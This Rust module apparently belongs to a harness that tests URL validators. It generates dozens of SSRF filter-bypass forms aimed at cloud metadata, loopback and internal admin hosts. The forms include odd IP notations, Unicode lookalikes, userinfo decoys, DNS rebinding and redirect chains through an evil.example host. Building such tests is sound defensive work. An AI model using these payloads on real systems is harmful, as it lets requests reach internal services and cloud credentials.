//! Ways to write a destination so that a reader takes it for another one, or for none.

use std::net::Ipv4Addr;

use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};

use crate::world;

use super::aim::Aim;
use super::carrier::spelled;

/// A public host that a reader may take for the destination.
const DECOY: &str = "cdn.example";

/// One way.
#[derive(Clone, Copy)]
pub struct Disguise {
    /// For tables.
    pub name: &'static str,
    form: Form,
}

#[derive(Clone, Copy)]
enum Form {
    /// The address, written otherwise.
    Address(fn(Ipv4Addr) -> String),
    /// A name that leads there.
    Name(fn(Aim) -> Option<String>),
    /// The whole URL, written otherwise: from authority, and path.
    Url(fn(&str, &str) -> String),
    /// A public URL that redirects: from the URL to arrive at.
    Redirect(fn(&str) -> String),
    /// The plain URL, every character of it escaped as its carrier escapes.
    Escaped,
    /// A name that leads to the attacker's host when it is asked for first, and to the aim later.
    Rebinding,
}

/// What a request carries.
#[derive(Clone, Debug)]
pub struct Order {
    /// The whole URL.
    pub url: String,
    /// Host, port and path, where they can stand apart.
    pub apart: Option<(String, u16, String)>,
    /// Whether the carrier escapes every character.
    pub escaped: bool,
    /// Whether the request is to be sent twice, the first time in vain.
    pub twice: bool,
}

impl Order {
    /// A URL of a plain host.
    pub fn plain(host: &str, port: u16, path: &str) -> Self {
        let url = format!("http://{host}{}{path}", port_text(port));
        Self { url, apart: Some((host.to_owned(), port, path.to_owned())), escaped: false, twice: false }
    }

    /// A URL as somebody wrote it.
    pub fn whole(url: String) -> Self {
        Self { url, apart: None, escaped: false, twice: false }
    }
}

fn port_text(port: u16) -> String {
    if port == 80 { String::new() } else { format!(":{port}") }
}

impl Disguise {
    /// The order for `aim`, where it can be disguised so; `marker` is unlike that of any other.
    pub fn order(&self, aim: Aim, marker: &str) -> Option<Order> {
        let path = aim.path(marker);
        let authority = format!("{}{}", aim.address(), port_text(aim.port()));
        let url = format!("http://{authority}{path}");
        Some(match self.form {
            Form::Address(write) => Order::plain(&write(aim.address()), aim.port(), &path),
            Form::Name(write) => Order::plain(&write(aim)?, aim.port(), &path),
            Form::Url(write) => Order::whole(write(&authority, &path)),
            Form::Redirect(write) => Order::whole(write(&url)),
            Form::Escaped => Order { escaped: true, ..Order::whole(url) },
            Form::Rebinding => {
                let host = format!("rebind-{}-{marker}.evil.example", aim.word());
                Order { twice: true, ..Order::plain(&host, aim.port(), &path) }
            }
        })
    }

    /// Whether the destination is reached by a redirect.
    pub fn redirects(&self) -> bool {
        matches!(self.form, Form::Redirect(_))
    }
}

fn bits(address: Ipv4Addr) -> u32 {
    u32::from(address)
}

fn octets(address: Ipv4Addr, write: impl Fn(usize, u8) -> String) -> String {
    address.octets().into_iter().enumerate().map(|(nth, octet)| write(nth, octet)).collect::<Vec<_>>().join(".")
}

/// The decimal digits of an address as other characters.
fn digits(address: Ipv4Addr, other: impl Fn(u32) -> u32) -> String {
    let each = |c: char| c.to_digit(10).map_or(c, |digit| char::from_u32(other(digit)).expect("a character"));
    address.to_string().chars().map(each).collect()
}

fn mapped(address: Ipv4Addr) -> (u32, u32) {
    (bits(address) >> 16, bits(address) & 0xffff)
}

fn redirect(status: &str, to: &str) -> String {
    let to = utf8_percent_encode(to, NON_ALPHANUMERIC);
    format!("http://{}/{status}?to={to}", world::EVIL_NAME)
}

const fn address(name: &'static str, write: fn(Ipv4Addr) -> String) -> Disguise {
    Disguise { name, form: Form::Address(write) }
}

const fn named(name: &'static str, write: fn(Aim) -> Option<String>) -> Disguise {
    Disguise { name, form: Form::Name(write) }
}

const fn url(name: &'static str, write: fn(&str, &str) -> String) -> Disguise {
    Disguise { name, form: Form::Url(write) }
}

const fn redirects(name: &'static str, write: fn(&str) -> String) -> Disguise {
    Disguise { name, form: Form::Redirect(write) }
}

/// All of them.
pub const ALL: &[Disguise] = &[
    address("plain", |a| a.to_string()),
    // Numbers, as inet_aton(3) reads them.
    address("decimal", |a| bits(a).to_string()),
    address("hex", |a| format!("{:#x}", bits(a))),
    address("hex, upper case", |a| format!("0X{:X}", bits(a))),
    address("hex, padded", |a| format!("0x000000{:x}", bits(a))),
    address("dotted hex", |a| octets(a, |_, o| format!("{o:#x}"))),
    address("octal", |a| format!("0{:o}", bits(a))),
    address("dotted octal", |a| octets(a, |_, o| format!("0{o:o}"))),
    address("octal, padded", |a| octets(a, |_, o| format!("00000{o:o}"))),
    address("mixed", |a| {
        octets(a, |nth, o| [format!("{o:#x}"), o.to_string(), format!("0{o:o}"), o.to_string()][nth].clone())
    }),
    address("three parts", |a| format!("{}.{}.{}", a.octets()[0], a.octets()[1], bits(a) & 0xffff)),
    address("two parts", |a| format!("{}.{}", a.octets()[0], bits(a) & 0xff_ffff)),
    address("trailing dot", |a| format!("{a}.")),
    // IPv4 inside IPv6.
    address("mapped", |a| format!("[::ffff:{a}]")),
    address("mapped, hex", |a| format!("[::ffff:{:x}:{:x}]", mapped(a).0, mapped(a).1)),
    address("mapped, long", |a| format!("[0:0:0:0:0:FFFF:{:04X}:{:04X}]", mapped(a).0, mapped(a).1)),
    address("mapped, zone", |a| format!("[::ffff:{a}%25lo]")),
    address("mapped, bare zone", |a| format!("[::ffff:{a}%lo]")),
    named("NAT64", |aim| (aim == Aim::Metadata).then(|| format!("[64:ff9b::{}]", aim.address()))),
    named("6to4", |aim| (aim == Aim::Metadata).then(|| "[2002:a9fe:a9fe::1]".to_owned())),
    named("IPv6 of its own", |aim| match aim {
        Aim::Metadata => Some("[fd00:ec2::254]".to_owned()),
        Aim::Loopback => Some("[::1]".to_owned()),
        Aim::Admin | Aim::Billing => None,
    }),
    named("unspecified", |aim| (aim == Aim::Loopback).then(|| "0.0.0.0".to_owned())),
    named("zero", |aim| (aim == Aim::Loopback).then(|| "0".to_owned())),
    named("IPv6 unspecified", |aim| (aim == Aim::Loopback).then(|| "[::]".to_owned())),
    // Digits that IDNA turns into digits.
    address("full width", |a| digits(a, |d| 0xff10 + d)),
    address("enclosed", |a| digits(a, |d| if d == 0 { 0x24ea } else { 0x245f + d })),
    address("mathematical", |a| digits(a, |d| 0x1d7d8 + d)),
    address("superscript", |a| {
        digits(a, |d| [0x2070, 0xb9, 0xb2, 0xb3, 0x2074, 0x2075, 0x2076, 0x2077, 0x2078, 0x2079][d as usize])
    }),
    address("ideographic dots", |a| a.to_string().replace('.', "。")),
    address("soft hyphen", |a| a.to_string().replacen('.', "\u{ad}.", 1)),
    address("zero width", |a| a.to_string().replacen('.', "\u{200b}.", 1)),
    address("word joiner", |a| format!("\u{2060}{a}")),
    address("tab in the host", |a| a.to_string().replacen('.', "\t.", 1)),
    address("percent-encoded", |a| octets(a, |_, o| spelled(o.to_string().bytes(), |b| format!("%{b:02x}")))),
    address("one percent-encoded", |a| a.to_string().replacen('.', "%2e", 1)),
    // Names.
    named("name", |aim| aim.name().map(str::to_owned)),
    named("name, upper case", |aim| aim.name().map(str::to_uppercase)),
    named("name, trailing dot", |aim| aim.name().map(|name| format!("{name}."))),
    named("name, full width", |aim| {
        let wide = |c: char| {
            if c.is_ascii_lowercase() { char::from_u32(u32::from(c) - 0x61 + 0xff41).expect("a letter") } else { c }
        };
        aim.name().map(|name| name.chars().map(wide).collect())
    }),
    named("name, percent-encoded", |aim| aim.name().map(|name| name.replacen('l', "%6c", 1))),
    named("below localhost", |aim| (aim == Aim::Loopback).then(|| "app.localhost".to_owned())),
    named("A record", |aim| Some(format!("a-{}.evil.example", aim.word()))),
    named("A record, upper case", |aim| Some(format!("A-{}.Evil.EXAMPLE", aim.word()))),
    named("CNAME", |aim| Some(format!("cname-{}.evil.example", aim.word()))),
    named("IDN", |aim| Some(format!("a-{}.bücher.example", aim.word()))),
    named("punycode", |aim| Some(format!("a-{}.xn--bcher-kva.example", aim.word()))),
    address("embedded in a name", |a| format!("{a}.nip.io")),
    address("embedded, dashes", |a| format!("app-{}.sslip.io", a.to_string().replace('.', "-"))),
    address("embedded, hex", |a| format!("{:08x}.nip.io", bits(a))),
    named("name below a customer's", |aim| Some(format!("{}.apps.example", aim.word()))),
    Disguise { name: "rebinding", form: Form::Rebinding },
    // Around the authority.
    url("userinfo", |a, p| format!("http://{DECOY}@{a}{p}")),
    url("userinfo, password", |a, p| format!("http://{DECOY}:80@{a}{p}")),
    url("userinfo, escaped", |a, p| format!("http://{DECOY}%2Fstatus%3F@{a}{p}")),
    url("userinfo, long", |a, p| format!("http://{}@{a}{p}", "cdn.example.".repeat(150))),
    url("two at signs", |a, p| format!("http://{DECOY}@{DECOY}@{a}{p}")),
    url("at sign in the path", |a, p| format!("http://{a}{p}/@{DECOY}/")),
    url("backslash, at sign", |a, p| format!("http://{DECOY}\\@{a}{p}")),
    url("at sign, backslash", |a, p| format!("http://{a}\\@{DECOY}{p}")),
    url("fragment, at sign", |a, p| format!("http://{a}#@{DECOY}{p}")),
    url("query, at sign", |a, p| format!("http://{a}?@{DECOY}{p}")),
    url("decoy, fragment", |a, p| format!("http://{DECOY}#@{a}{p}")),
    url("decoy, query", |a, p| format!("http://{DECOY}?@{a}{p}")),
    url("three hosts", |a, p| format!("http://{DECOY} &@{a}# @{DECOY}{p}")),
    url("decoy behind a space", |a, p| format!("http://{a} @{DECOY}{p}")),
    url("semicolon", |a, p| format!("http://{DECOY};@{a}{p}")),
    // The scheme and its slashes.
    url("upper-case scheme", |a, p| format!("HTTP://{a}{p}")),
    url("mixed-case scheme", |a, p| format!("HtTp://{a}{p}")),
    url("one slash", |a, p| format!("http:/{a}{p}")),
    url("no slash", |a, p| format!("http:{a}{p}")),
    url("three slashes", |a, p| format!("http:///{a}{p}")),
    url("backslashes", |a, p| format!("http:\\\\{a}{p}")),
    url("mixed slashes", |a, p| format!("http:/\\{a}{p}")),
    url("no scheme", |a, p| format!("{a}{p}")),
    url("scheme-relative", |a, p| format!("//{a}{p}")),
    url("scheme-relative, backslash", |a, p| format!("/\\{a}{p}")),
    url("URL: prefix", |a, p| format!("URL:http://{a}{p}")),
    url("angle brackets", |a, p| format!("<http://{a}{p}>")),
    // White space and controls.
    url("spaces around", |a, p| format!("  http://{a}{p} ")),
    url("tab inside", |a, p| format!("http://{}{p}", a.replacen('.', "\t.", 1))),
    url("line break inside", |a, p| format!("http://{}{p}", a.replacen('.', ".\n", 1))),
    url("tab in the scheme", |a, p| format!("ht\ttp://{a}{p}")),
    url("control before", |a, p| format!("\u{1}http://{a}{p}")),
    url("no-break space before", |a, p| format!("\u{a0}http://{a}{p}")),
    // Port and path.
    url("port", |a, p| {
        if a.contains(':') { format!("http://{}{p}", a.replace(':', ":0")) } else { format!("http://{a}:80{p}") }
    }),
    url("padded port", |a, p| {
        if a.contains(':') { format!("http://{}{p}", a.replace(':', ":000")) } else { format!("http://{a}:00080{p}") }
    }),
    url("empty port", |a, p| format!("http://{a}:{p}").replace("9000:", "9000")),
    url("credentials and port", |a, p| {
        format!("http://admin:secret@{a}{}{p}", if a.contains(':') { "" } else { ":80" })
    }),
    url("dot segments", |a, p| format!("http://{a}/x/..{p}")),
    url("escaped path", |a, p| format!("http://{a}{}", p.replacen('a', "%61", 1).replacen('o', "%6f", 1))),
    url("with a fragment", |a, p| format!("http://{a}{p}#top")),
    url("with a query", |a, p| format!("http://{a}{p}?cdn.example")),
    // Further layers.
    Disguise { name: "escaped", form: Form::Escaped },
    url("percent-encoded again", |a, p| utf8_percent_encode(&format!("http://{a}{p}"), NON_ALPHANUMERIC).to_string()),
    // Redirects.
    redirects("301", |to| redirect("301", to)),
    redirects("302", |to| redirect("302", to)),
    redirects("303", |to| redirect("303", to)),
    redirects("307", |to| redirect("307", to)),
    redirects("308", |to| redirect("308", to)),
    redirects("two hops", |to| redirect("302", &redirect("307", to))),
    redirects("three hops, disguised", |to| {
        redirect("301", &redirect("302", &redirect("307", &to.replace("://", "://x@"))))
    }),
    redirects("hop without scheme", |to| redirect("302", to.trim_start_matches("http:"))),
    redirects("hop to a number", |to| {
        let (authority, path) = to["http://".len()..].split_at(to["http://".len()..].find('/').expect("a path"));
        let (host, port) =
            authority.split_once(':').map_or((authority, ""), |(host, _)| (host, &authority[host.len()..]));
        redirect("302", &format!("http://{}{port}{path}", bits(host.parse().expect("an address"))))
    }),
    redirects("hop to octal", |to| {
        redirect(
            "307",
            &to.replacen("169.254", "0251.0376", 1).replacen("127.0", "0177.0", 1).replacen("10.20", "012.024", 1),
        )
    }),
    redirects("disguised and hop", |to| redirect("302", to).replacen("http://", "HTTP://user@", 1)),
];
